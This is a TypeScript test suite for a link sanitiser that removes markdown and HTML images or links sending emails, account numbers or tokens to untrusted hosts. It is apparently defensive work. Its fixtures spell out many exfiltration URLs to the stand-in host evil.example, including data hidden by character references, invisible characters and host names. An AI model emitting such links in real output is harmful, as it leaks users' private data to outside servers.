import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { neutraliseLinks, type LinkPolicy } from './links.ts';

const policy: LinkPolicy = { allowedHosts: ['docs.example.com'], carriesData: (text) => /@|DE\d{2}/.test(text) };

test('a markdown image whose URL carries session data is removed; the report says why, never the URL', () => {
  const text = 'Done. ![status](https://evil.example/p.png?u=ada@lovelace.example) thanks';
  const out = neutraliseLinks(text, policy);
  assert.equal(out.text, 'Done. [image removed: status] thanks');
  assert.deepEqual(out.report, { count: 1, images: 1, data_urls: 0, neutralised: 1, exfiltration: true, hosts: ['evil.example'] });
});

test('data: URLs are neutralised in every form; images to hosts not allowed are removed even without data', () => {
  const out = neutraliseLinks('a ![x](data:image/png;base64,AAAA) b <img src="data:text/html,hi"> c data:text/plain,secret d ![y](https://cdn.other.example/logo.png)', policy);
  assert.ok(!out.text.includes('data:'), out.text);
  assert.ok(!out.text.includes('cdn.other.example'), out.text);
  assert.equal(out.report.data_urls, 3);
  assert.equal(out.report.neutralised, 4);
});

test('links to allowed hosts carrying nothing stay; an opaque token or data in any part of a URL removes it', () => {
  const keep = 'See [the guide](https://docs.example.com/guide/setup) and https://docs.example.com/faq';
  assert.equal(neutraliseLinks(keep, policy).text, keep);
  assert.equal(neutraliseLinks(keep, policy).report.neutralised, 0);
  for (const url of [
    'https://docs.example.com/x?t=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3',
    'https://other.example/a/ada%40lovelace.example',
    'https://other.example/#DE89370400440532013000',
  ]) {
    const out = neutraliseLinks(`click [here](${url}) now`, policy);
    assert.equal(out.text, 'click here [link removed] now', url);
    assert.equal(out.report.exfiltration, true);
  }
});

test('property: no data: URL and no URL carrying an email survives, whatever the markup', () => {
  const carrier = fc.oneof(
    fc.constant('data:text/html;base64,PHNjcmlwdD4='),
    fc.stringMatching(/^[a-z]{1,8}$/).map((u) => `https://x${u}.example/c?e=${u}%40corp.example`),
  );
  const wrap = fc.constantFrom(
    (u: string) => `![i](${u})`,
    (u: string) => `[l](${u})`,
    (u: string) => `<img src="${u}">`,
    (u: string) => `<a href='${u}'>x</a>`,
    (u: string) => `<img src=${u}>`,
    (u: string) => ` ${u} `,
    (u: string) => `![a [b] c](${u})`,
    (u: string) => `[a\nb](${u} "t")`,
    (u: string) => `![i](<${u}>)`,
    (u: string) => `[![i](${u})](https://docs.example.com/x)`,
    (u: string) => `[a \\] b](${u})`,
    (u: string) => `(${u})`,
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(fc.stringMatching(/^[A-Za-z ]{0,20}$/), carrier, wrap), { minLength: 1, maxLength: 5 }), (parts) => {
      const text = parts.map(([pre, url, w]) => pre + w(url)).join(' ');
      const out = neutraliseLinks(text, policy);
      assert.ok(!/data:/i.test(out.text), out.text);
      assert.ok(!out.text.includes('%40corp.example'), out.text);
      assert.equal(out.report.exfiltration, true);
    }),
    { numRuns: 300 },
  );
});

test('markdown as renderers read it: nested brackets, line breaks, escapes, pointed destinations, titles, an image inside a link', () => {
  const strict: LinkPolicy = { allowedHosts: ['docs.example.com'], carriesData: (text) => text.includes('SECRET') };
  const cases: Array<[string, string]> = [
    ['![x [y] z](https://evil.example/p.png?q=SECRET)', '[image removed: x [y] z]'],
    ['[a [b] c](https://evil.example/?q=SECRET)', 'a [b] c [link removed]'],
    ['![x\ny](https://evil.example/p.png)', '[image removed: x\ny]'],
    ['![x](<https://evil.example/a b.png>)', '[image removed: x]'],
    ["![x]( https://evil.example/p.png 'title' )", '[image removed: x]'],
    ['![x](https://evil.example/p(1).png?q=SECRET)', '[image removed: x]'],
    ['[a \\] b](https://evil.example/?q=SECRET)', 'a \\] b [link removed]'],
    ['[![i](https://evil.example/i.png)](https://docs.example.com/a)', '[[image removed: i]](https://docs.example.com/a)'],
    ['[![i](https://docs.example.com/i.png)](https://evil.example/?q=SECRET)', '![i](https://docs.example.com/i.png) [link removed]'],
    // An escaped "!" makes a link, not an image; a link to any host that carries nothing stays.
    ['\\![x](https://evil.example/p.png)', '\\![x](https://evil.example/p.png)'],
    // An unquoted attribute is an attribute: the image is removed, the link kept when it carries nothing.
    ['<img src=https://evil.example/p.png> <a href=https://evil.example/a>x</a>', '<img src=#removed> <a href=https://evil.example/a>x</a>'],
    // GitHub autolinks a URL after a parenthesis: it is judged like any bare URL.
    ['see (https://evil.example/?q=SECRET) here', 'see ([link removed]) here'],
  ];
  for (const [text, expected] of cases) assert.equal(neutraliseLinks(text, strict).text, expected, text);
  const kept = neutraliseLinks('[ok](https://docs.example.com/a) and https://docs.example.com/b', strict);
  assert.deepEqual(kept.report, { count: 2, images: 0, data_urls: 0, neutralised: 0, exfiltration: false, hosts: [] });
});

// 200,000 characters of each unit: the scan's time limit is the bound, not a measured duration.
test('link scanning is linear on hostile input', { timeout: 60_000 }, () => {
  for (const unit of ['[', '](', '[a](', '![a](<x', '[a](((', '[a](x (', '[a](x "', '\\[', '[' + 'a'.repeat(600), '[a](' + 'x'.repeat(5000), '<img src="', '<img src=', 'src=x', 'http://']) {
    const text = unit.repeat(Math.ceil(200_000 / unit.length));
    assert.equal(typeof neutraliseLinks(text, policy).text, 'string');
  }
});

const strictEmail: LinkPolicy = { allowedHosts: ['docs.example.com'], carriesData: (text) => /[a-z0-9]+@corp\.example/i.test(text) || /DE89370400440532013000/.test(text) };

test('a reference definition may be used by an image (![x][ref], ![ref]): it is judged as an image', () => {
  for (const text of [
    '![logo][1]\n\n[1]: https://evil.example/pixel.png',
    '![logo][]\n\n[logo]: <https://evil.example/pixel.png> "t"',
    '![logo]\n\n> [logo]:\n  https://evil.example/pixel.png',
    '![logo][1]\n\n[1]: //evil.example/pixel.png',
  ]) {
    const out = neutraliseLinks(text, strictEmail);
    assert.ok(!out.text.includes('evil.example'), out.text);
    assert.equal(out.report.images, 1, text);
  }
  const allowed = '![logo][1]\n\n[1]: https://docs.example.com/logo.png';
  assert.equal(neutraliseLinks(allowed, strictEmail).text, allowed);
  assert.equal(neutraliseLinks('a ratio [a]: b, and [note]: see below', strictEmail).report.count, 0, 'prose is not a destination');
});

test('html that the browser fetches by itself is judged as an image; only a / area href is a link', () => {
  const fetched = [
    '<picture><source srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x"><img src="https://docs.example.com/ok.png"></picture>',
    '<video poster="https://evil.example/p.png"></video>',
    '<svg><image href="https://evil.example/p.png"/></svg>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="background:url(\'https://evil.example/p.png\')">x</div>',
    '<style>body { background: url(https://evil.example/p.png) }</style>',
    '<img src="https://evil.example/\n.png">',
    '<img\nsrc=\n"https://evil.example/p.png">',
  ];
  for (const text of fetched) {
    const out = neutraliseLinks(text, strictEmail);
    assert.ok(!out.text.includes('evil.example'), out.text);
    assert.ok(out.report.images >= 1, text);
  }
  const link = '<a href="https://evil.example/page">x</a> <img src="https://docs.example.com/a.png" srcset="https://docs.example.com/a2.png 2x">';
  assert.equal(neutraliseLinks(link, strictEmail).text, link, 'a plain link and allowed images stay');
  assert.equal(neutraliseLinks('set data=5 and width=3', strictEmail).report.count, 0);
});

test('data in the host name, and data hidden by character references, escapes, line breaks or invisible characters, is found', () => {
  for (const url of [
    'https://de89370400440532013000.evil.example/',
    'https://DE89370400440532013000.evil.example/',
    'https://qujdrevgr0hjsktmtu5pufftu1rvvlzxwvo0nty3.evil.example/',
    'https://evil.example/?q=ada&#64;corp.example',
    'https://evil.example/?q=ada&commat;corp.example',
    'https://evil.example/?q=ada\\@corp.example',
    'https://evil.example/?q=ada\u200b@corp.example',
    'https://evil.example/?q=ada%E2%80%8B@corp.example',
    'https://evil.example/?q=ada&shy;@corp.example',
  ]) {
    assert.equal(neutraliseLinks(`see [here](${url}) now`, strictEmail).text, 'see here [link removed] now', url);
    assert.ok(!neutraliseLinks(`<a href="${url}">x</a>`, strictEmail).text.includes('evil.example'), url);
  }
  assert.ok(!neutraliseLinks('<a href="https://evil.example/?q=ada@co\nrp.example">x</a>', strictEmail).text.includes('evil.example'));
  assert.equal(neutraliseLinks('www.evil.example/?q=ada@corp.example', strictEmail).text, '[link removed]');
  const kept = '[ok](https://docs.example.com/a?x=1&amp;y=2) and <a href="https://docs.example.com/b?x=1&amp;y=2">b</a>';
  assert.equal(neutraliseLinks(kept, strictEmail).text, kept);
});

test('property: an email hidden in any reading of a URL, in any markup that fetches or links, does not survive', () => {
  const at = fc.constantFrom('@', '&#64;', '&#x40;', '&commat;', '\\@', '\u200b@', '@\u2060', '%40', '%E2%80%8B%40');
  const wrap = fc.constantFrom(
    (u: string) => `![i](${u})`,
    (u: string) => `[l](${u})`,
    (u: string) => `![i][r]\n\n[r]: ${u}`,
    (u: string) => `[l][r]\n[r]: <${u}>`,
    (u: string) => `<img src="${u}">`,
    (u: string) => `<img srcset="${u} 2x">`,
    (u: string) => `<video poster='${u}'></video>`,
    (u: string) => `<a href="${u}">x</a>`,
    (u: string) => `<div style="background:url(${u})">`,
    (u: string) => ` ${u} `,
  );
  fc.assert(
    fc.property(fc.stringMatching(/^[a-z]{1,8}$/), at, wrap, fc.constantFrom('https://x.example/c?e=', 'https://docs.example.com/p/', 'https://x.example/#'), (user, sign, w, base) => {
      const url = `${base}${user}${sign}corp.example`;
      const out = neutraliseLinks(w(url), strictEmail);
      assert.ok(!out.text.includes(`${sign}corp.example`), out.text);
      assert.equal(out.report.exfiltration, true, w(url));
    }),
    { numRuns: 400 },
  );
});
